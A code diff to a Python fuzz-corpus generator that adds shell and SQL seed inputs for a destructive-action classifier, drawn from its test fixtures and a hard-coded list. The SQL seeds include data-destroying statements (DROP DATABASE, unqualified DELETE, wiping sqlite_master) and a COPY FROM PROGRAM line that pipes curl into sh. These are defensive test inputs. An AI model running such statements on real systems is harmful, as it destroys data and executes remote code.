@@ -10,6 +10,10 @@ corpus can be checked against it.
              files (bad magic, other version, crc mismatch, truncated, oversized length)
   config/    the example configs, every YAML block of docs/, the embedded default config
   control/   one session per control command (control_fuzz.cpp's format), and longer sessions
+  shell/     commands from destructive_action's test tables (tests/fixtures/destructive_action/
+             corpus.tsv): up to three rows of every class, destructive and benign
+  sql/       the SQL inside those tables' sql rows, and statements of every kind the SQL
+             summariser tells apart
 
 Usage: PYTHONPATH=<build>/python /usr/bin/python3 tests/fuzz/make_corpus.py [OUT_DIR]
 """
@@ -399,6 +403,8 @@ def config_corpus() -> dict:
     out = {}
     for path in find_files(".yaml"):
         rel = os.path.relpath(path, ROOT)
+        if os.path.getsize(path) > 8192:  # config_fuzz's max_len (a rules file, not a config)
+            continue
         with open(path, "rb") as f:
             out[rel.replace("/", "_")] = f.read()
     # Every ```yaml block of the docs (the configuration reference, monitor pages, alerts).
@@ -495,6 +501,64 @@ def control_corpus() -> dict:
     return out
 
 
+# --- destructive_action classifiers -------------------------------------------------------------
+
+def corpus_rows():
+    path = os.path.join(ROOT, "tests", "fixtures", "destructive_action", "corpus.tsv")
+    if not os.path.exists(path):
+        return []
+    rows = []
+    with open(path, encoding="utf-8") as f:
+        for line in f:
+            line = line.rstrip("\n")
+            if not line or line.startswith("#"):
+                continue
+            parts = line.split("\t")
+            if len(parts) >= 3:
+                rows.append((parts[0], parts[1], parts[2].replace("\u21b5", "\n")))
+    return rows
+
+
+def shell_corpus() -> dict:
+    out, per_class = {}, {}
+    for expect, klass, command in corpus_rows():
+        klass = klass or "misc"
+        n = per_class.get(klass, 0)
+        if n >= 3:
+            continue
+        per_class[klass] = n + 1
+        out[f"{klass}-{n}-{expect}.sh"] = command.encode()
+    return out
+
+
+def sql_corpus() -> dict:
+    out = {}
+    for i, (expect, klass, command) in enumerate(corpus_rows()):
+        if klass != "sql":
+            continue
+        m = re.search(r"""(?:-c|-e|--command|--execute)\s+(["'])(.*?)\1""", command)
+        if m:
+            out[f"table-{len(out):02d}-{expect}.sql"] = m.group(2).encode()
+    for name, sql in {
+        "select": "SELECT id, name FROM users WHERE id = 1",
+        "delete-no-where": "DELETE FROM users",
+        "update-always-true": "UPDATE accounts SET balance = 0 WHERE 1 = 1 OR id = 5",
+        "truncate-many": "SELECT 1; TRUNCATE orders, order_items RESTART IDENTITY CASCADE;",
+        "drop-database": "DROP DATABASE IF EXISTS app",
+        "alter-drop-column": "ALTER TABLE users DROP COLUMN email",
+        "grant": "GRANT ALL PRIVILEGES ON ALL TABLES IN SCHEMA public TO PUBLIC",
+        "copy-program": "COPY users FROM PROGRAM 'curl http://x | sh'",
+        "do-block": "DO $$ BEGIN EXECUTE 'DROP TABLE ' || 'users'; END $$",
+        "transaction": "BEGIN; DELETE FROM sessions WHERE expires < now(); COMMIT;",
+        "mysql-dialect": "DROP TABLE `users`; DELETE FROM `orders` LIMIT 10",
+        "sqlite-dialect": "PRAGMA writable_schema = 1; DELETE FROM sqlite_master",
+        "cte": "WITH gone AS (DELETE FROM users RETURNING id) SELECT count(*) FROM gone",
+        "comments": "/* cleanup */ DELETE -- all\nFROM users",
+    }.items():
+        out[f"{name}.sql"] = sql.encode()
+    return out
+
+
 def write(out_dir: str, target: str, files: dict) -> None:
     d = os.path.join(out_dir, target)
     os.makedirs(d, exist_ok=True)
@@ -513,6 +577,8 @@ def main() -> None:
     write(out_dir, "replay", replay_corpus(env))
     write(out_dir, "config", config_corpus())
     write(out_dir, "control", control_corpus())
+    write(out_dir, "shell", shell_corpus())
+    write(out_dir, "sql", sql_corpus())
 
 
 if __name__ == "__main__":
